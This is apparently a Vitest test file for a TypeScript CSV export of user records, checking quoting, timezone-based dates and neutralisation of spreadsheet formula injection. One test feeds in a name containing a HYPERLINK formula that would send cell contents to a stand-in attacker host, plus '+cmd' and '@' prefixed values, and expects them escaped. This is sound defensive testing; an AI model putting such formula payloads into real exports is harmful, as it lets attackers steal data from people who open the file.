import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.js';
import { EXPORT_COLUMNS, type ExportedRow, exportCsvLine, exportRow } from './export-row.js';
import type { FlexUser, SparkUser } from './schemas/users.js';

const flex: FlexUser = {
  name: 'Zoë "Z" O\'Brien, Jr.\nline two',
  phoneNumber: '(305) 555-0105',
  referral: 'ANA,42',
  goodStanding: true,
  proxyInstalled: false,
  setupComplete: true,
  createDateTimestamp: Date.UTC(2026, 0, 1),
  expirationDate: '2026-03-01T04:30:00.000Z',
  expirationDateTimestamp: Date.UTC(2026, 2, 1, 4, 30),
  stripeExpressId: null,
  status: 'start',
  humanRegion: 'Miami',
};
const { humanRegion: _region, ...common } = flex;
const spark: SparkUser = {
  ...common,
  name: 'Ana Pérez',
  phoneNumber: '+13055550106',
  referral: null,
  expirationDate: null,
  expirationDateTimestamp: null,
  status: 'stop',
  driverOptions: { deliveryArea: null },
};

/** A record as the shared CSV writer writes it, column by column. */
function csvRecord(record: Record<string, string>): string {
  return csvLine(EXPORT_COLUMNS.map((c) => record[c] ?? ''));
}

describe('exportCsvLine', () => {
  it('writes the line csvLine writes for exportRow, quoting only what needs it', () => {
    const rows: ExportedRow[] = [
      flex,
      spark,
      { ...flex, status: null } as unknown as ExportedRow,
      { ...flex, name: '=1+1', referral: '@SUM(A1)', humanRegion: '-2', phoneNumber: '+x' },
    ];
    for (const zone of ['America/New_York', 'UTC', 'Asia/Tokyo']) {
      for (const row of rows)
        expect(exportCsvLine(row, zone)).toBe(csvRecord(exportRow(row, zone)));
    }
    expect(exportCsvLine(flex, 'America/New_York')).toBe(
      '"Zoë ""Z"" O\'Brien, Jr.\nline two",+13055550105,"ANA,42",Miami,true,false,true,2026-02-28,ON\n',
    );
    expect(exportCsvLine(spark, 'UTC')).toBe('Ana Pérez,+13055550106,,,true,false,true,,OFF\n');
  });

  it('neutralises a name, referral, region or raw phone that starts like a formula', () => {
    const row = {
      ...spark,
      name: '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
      referral: '+cmd',
      driverOptions: { deliveryArea: '\tTab' },
      phoneNumber: '@phone',
    };
    expect(exportCsvLine(row, 'UTC')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",'@phone,'+cmd,'\tTab,true,false,true,,OFF\n`,
    );
  });
});
